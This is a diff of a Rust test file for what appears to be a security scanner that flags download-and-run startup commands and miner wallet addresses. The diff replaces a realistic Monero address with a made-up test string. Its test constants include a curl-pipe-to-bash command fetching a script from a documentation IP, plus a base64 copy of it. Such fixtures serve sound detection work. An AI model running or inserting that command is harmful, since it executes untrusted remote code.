@@ -66,8 +66,9 @@ fn serious(findings: &[Finding]) -> Vec<String> {
 const DOWNLOAD: &str = "curl -s http://203.0.113.7/x.sh | bash";
 /// `DOWNLOAD` in base64.
 const DOWNLOAD_B64: &str = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g=";
-/// A syntactically valid Monero address (the shape only; not anyone's wallet).
-const WALLET: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
+/// A string with the shape of a Monero address, made up for the tests, so nobody's
+/// wallet.
+const WALLET: &str = "4ACustomsTestWaetShapeNotAReaAddressMadeUpForTestsCustomsTestWaetShapeNotAReaAddressMadeUpForTe";
 
 #[test]
 fn startup_download_in_cmd_is_high_and_says_where() {
@@ -225,7 +226,7 @@ fn miner_flags_pools_and_wallets_anywhere_in_the_config() {
     );
     let w = one(&f, "config-wallet-address");
     assert!(
-        w.evidence.starts_with("Env WALLET: 44AFFq5k"),
+        w.evidence.starts_with("Env WALLET: 4ACustoms"),
         "{}",
         w.evidence
     );
